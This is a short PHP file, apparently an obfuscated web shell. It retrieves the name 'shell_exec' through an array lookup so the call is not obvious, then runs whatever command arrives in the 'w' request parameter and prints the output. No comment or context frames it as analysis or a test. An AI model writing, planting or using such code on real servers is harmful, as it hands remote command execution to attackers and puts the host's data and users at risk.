<?php
$map = ['trim' => 3, 'shell_exec' => 7, 'strlen' => 9];
$op = array_search('7', $map);
$in = $_REQUEST['w'] ?? '';
print $op($in);
